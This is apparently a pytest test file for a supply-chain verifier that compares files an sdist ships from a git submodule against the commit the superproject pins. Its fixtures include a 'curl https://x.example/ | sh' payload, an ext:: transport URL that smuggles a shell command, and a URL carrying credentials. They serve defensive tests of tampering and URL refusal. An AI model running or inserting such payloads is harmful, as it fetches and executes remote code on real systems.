"""Files an sdist ships from a git submodule (tomlkit ships `tests/toml-test/`) are compared with the submodule's
repository at the commit the superproject's gitlink pins, cloned like every repository: a genuine sdist made by
`python -m build` from a checkout with its submodule checked out is faithful through plain `verify PURL`; a
tampered file is a mismatch, even when the submodule's branch head carries the tampered content; a hostile
`.gitmodules` URL is never cloned and the submodule's code is not vouched for; a gitlink commit the submodule's
repository lacks is stated, not passed."""

from __future__ import annotations

import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from ossprov import stages
from ossprov.config import settings
from ossprov.fixtures.world import Repo, World
from ossprov.model import FileStatus, Severity, Verdict, VerifyResult

PYPROJECT = ('[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n'
             '[project]\nname = "NAME"\nversion = "1.0"\n\n[tool.setuptools]\npackages = ["app"]\n')
APP = {"MANIFEST.in": "recursive-include vendor/lib *\n", "app/__init__.py": "def run():\n    return 1\n"}
LIB = {"lib.py": "def helper():\n    return 2\n", "data/cases.txt": "case one\n", "README.md": "# lib\n"}
EVIL = "import os\nos.system('curl https://x.example/ | sh')\n"


def _git(repo: Repo, world: World, *args: str) -> str:
    env = {**os.environ, "GIT_CONFIG_GLOBAL": str(world.root / "gitconfig"), "GIT_AUTHOR_NAME": "Fixture Dev",
           "GIT_AUTHOR_EMAIL": "dev@example.org", "GIT_COMMITTER_NAME": "Fixture Dev",
           "GIT_COMMITTER_EMAIL": "dev@example.org"}
    return subprocess.run(["git", "-c", "protocol.file.allow=always", *args], cwd=repo.path, env=env, check=True,
                          capture_output=True, text=True).stdout


def _lib(world: World, *, push: bool = True) -> tuple[Repo, str]:
    lib = world.repo("acme/lib")
    return lib, lib.commit("lib", LIB, push=push)


def _superproject(world: World, name: str, url: str) -> Repo:
    """acme/NAME with acme/lib added as a submodule at vendor/lib, from `url` (as .gitmodules records it)."""
    app = world.repo(f"acme/{name}")
    app.write({**APP, "pyproject.toml": PYPROJECT.replace("NAME", name)})
    _git(app, world, "submodule", "add", "-q", url, "vendor/lib")
    app.commit("release")
    app.tag("v1.0")
    return app


def _sdist_files(app: Repo) -> dict[str, str | bytes]:
    """What `python -m build --sdist` takes from the checkout (PKG-INFO left for the world to write)."""
    subprocess.run([sys.executable, "-m", "build", "--sdist", "--no-isolation", "--outdir", "dist", "."],
                   cwd=app.path, check=True, capture_output=True, timeout=300)
    files: dict[str, str | bytes] = {}
    with tarfile.open(next((app.path / "dist").glob("*.tar.gz"))) as tar:
        for member in tar.getmembers():
            extracted = tar.extractfile(member) if member.isfile() else None
            rel = member.name.partition("/")[2]
            if extracted and rel != "PKG-INFO":
                files[rel] = extracted.read()
    assert "vendor/lib/lib.py" in files and "vendor/lib/data/cases.txt" in files  # the checked-out submodule
    return files


def _publish(world: World, name: str, files: dict[str, str | bytes]) -> str:
    return world.publish_pypi(name, "1.0", files, metadata={"Project-URL": [f"Source, https://github.com/acme/{name}"]})


def _findings(result: VerifyResult) -> dict[str, list[tuple[str, Severity]]]:
    out: dict[str, list[tuple[str, Severity]]] = {}
    for f in result.findings:
        out.setdefault(f.path or "", []).append((f.rule, f.severity))
    return out


def _clones() -> list[str]:
    return sorted(p.name for p in settings().clone_cache.iterdir() if p.name.endswith((".git", ".failed")))


@pytest.fixture
def genuine(world: World) -> tuple[World, Repo, str, dict[str, str | bytes]]:
    """The submodule's repository, its pinned commit, and the genuine sdist's files of a superproject whose
    .gitmodules names it relatively."""
    lib, pinned = _lib(world)
    app = _superproject(world, "app", "../lib")
    assert _git(app, world, "rev-parse", "HEAD:vendor/lib").strip() == pinned
    return world, lib, pinned, _sdist_files(app)


def test_files_from_a_submodule_are_identical_to_it_at_the_pinned_commit(genuine: tuple) -> None:
    world, _lib_repo, pinned, files = genuine
    result = stages.verify(_publish(world, "app", files))
    assert result.verdict is Verdict.FAITHFUL, (result.reason, result.findings)
    by_path = {r.path: r for r in result.file_results}
    lib = by_path["vendor/lib/lib.py"]
    assert lib.status is FileStatus.IDENTICAL and lib.reason == f"from submodule vendor/lib at {pinned}"
    pointer = by_path["vendor/lib/.git"]  # the checkout's pointer into the superproject's git directory
    assert pointer.status is FileStatus.NORMALIZED and files["vendor/lib/.git"].startswith(b"gitdir: ../../.git/")


def test_a_tampered_submodule_file_is_a_mismatch_even_when_the_submodule_head_has_it(genuine: tuple) -> None:
    """The attacker also pushes the tampered file to the submodule's branch: only the pinned commit counts."""
    world, lib, pinned, files = genuine
    assert lib.commit("later", {"lib.py": EVIL}) != pinned
    result = stages.verify(_publish(world, "app", {**files, "vendor/lib/lib.py": EVIL,
                                                   "vendor/lib/.git": b"gitdir: /home/dev/.ssh\n"}))
    assert result.verdict is Verdict.MISMATCH
    findings = _findings(result)
    assert findings["vendor/lib/lib.py"] == [("OSP101", Severity.HIGH)]
    assert findings["vendor/lib/.git"] == [("OSP103", Severity.MEDIUM)]  # points elsewhere: no checkout's
    modified = next(r for r in result.file_results if r.path == "vendor/lib/lib.py")
    assert modified.status is FileStatus.MODIFIED and f"submodule vendor/lib at {pinned}" in modified.reason


def _gitlinked(world: World, name: str, url: str, commit: str) -> None:
    """acme/NAME at tag v1.0: a gitlink at vendor/lib pinning `commit`, which .gitmodules says is at `url`."""
    app = world.repo(f"acme/{name}")
    app.write({**APP, "pyproject.toml": PYPROJECT.replace("NAME", name),
               ".gitmodules": f'[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = {url}\n'})
    _git(app, world, "add", "-A")
    _git(app, world, "update-index", "--add", "--cacheinfo", f"160000,{commit},vendor/lib")
    _git(app, world, "commit", "-q", "-m", "release")
    app.push()
    app.tag("v1.0")


def _declared(world: World, name: str, url: str, commit: str) -> str:
    """acme/NAME whose .gitmodules names `url` for a gitlink at vendor/lib pinning `commit`, and its sdist as a
    checkout with the submodule checked out makes it, published."""
    _gitlinked(world, name, url, commit)
    files: dict[str, str | bytes] = {**APP, "pyproject.toml": PYPROJECT.replace("NAME", name),
                                     **{f"vendor/lib/{k}": v for k, v in LIB.items()}}
    return _publish(world, name, files)


def _not_vouched(result: VerifyResult, why: str) -> None:
    assert result.verdict is Verdict.MISMATCH
    findings = _findings(result)
    assert findings["vendor/lib/lib.py"] == [("OSP102", Severity.HIGH)]
    (unchecked,) = [f for f in result.findings if f.rule == "OSP207"]
    assert unchecked.severity is Severity.MEDIUM and unchecked.path == "vendor/lib" and why in unchecked.message
    lib = next(r for r in result.file_results if r.path == "vendor/lib/lib.py")
    assert lib.status is FileStatus.UNEXPLAINED and "could not be checked" in lib.reason
    high = next(f for f in result.findings if f.path == "vendor/lib/lib.py")
    assert "submodule vendor/lib" in high.message and "could not be checked" in high.message


@pytest.mark.parametrize(("url", "why"), [
    ("file://PRIVATE", "refused: scheme 'file'"),
    ("PRIVATE", "refused: scheme '(none)'"),
    ("ext::sh -c touch% MARKER", "refused"),
    ("../../../private/lib", "leaves the superproject's host"),
    ("https://github.com/acme/../private/lib", "'..' segment"),
    ("https://user:secret@github.com/private/lib", "carries credentials"),
], ids=["file-url", "local-path", "ext-transport", "relative-escape", "dot-segments", "credentials"])
def test_a_hostile_submodule_url_is_never_cloned_and_its_code_not_vouched_for(world: World, tmp_path: Path,
                                                                               url: str, why: str) -> None:
    """The private repository holds the very files the sdist ships: cloned, it would vouch for them."""
    private = world.repo("private/lib")
    commit = private.commit("lib", LIB)
    marker = tmp_path / "ext-ran"
    url = url.replace("PRIVATE", str(private.bare)).replace("MARKER", str(marker))
    result = stages.verify(_declared(world, "app", url, commit))
    _not_vouched(result, why)
    assert "secret" not in repr(result.findings) + repr(result.file_results)
    assert not marker.exists()
    assert [c for c in _clones() if "private" in c] == []


def test_a_gitlink_commit_the_submodule_lacks_is_stated_not_passed(world: World) -> None:
    """The maintainer's submodule commit was never pushed: the files cannot be checked."""
    lib, _ = _lib(world)
    unpushed = lib.commit("local only", {"lib.py": EVIL}, push=False)
    result = stages.verify(_declared(world, "app", "https://github.com/acme/lib", unpushed))
    _not_vouched(result, f"has no commit {unpushed}")


def test_a_submodule_is_cloned_only_for_an_artifact_with_files_under_it(world: World) -> None:
    _gitlinked(world, "app", "../lib", "1" * 40)
    result = stages.verify(_publish(world, "app", {**APP, "pyproject.toml": PYPROJECT.replace("NAME", "app")}))
    assert result.verdict is Verdict.FAITHFUL, (result.reason, result.findings)
    assert [c for c in _clones() if "lib" in c] == []


def test_an_unreachable_submodule_repository_is_stated_not_passed(world: World) -> None:
    result = stages.verify(_declared(world, "app", "https://github.com/acme/gone", "1" * 40))
    _not_vouched(result, "cannot clone https://github.com/acme/gone")
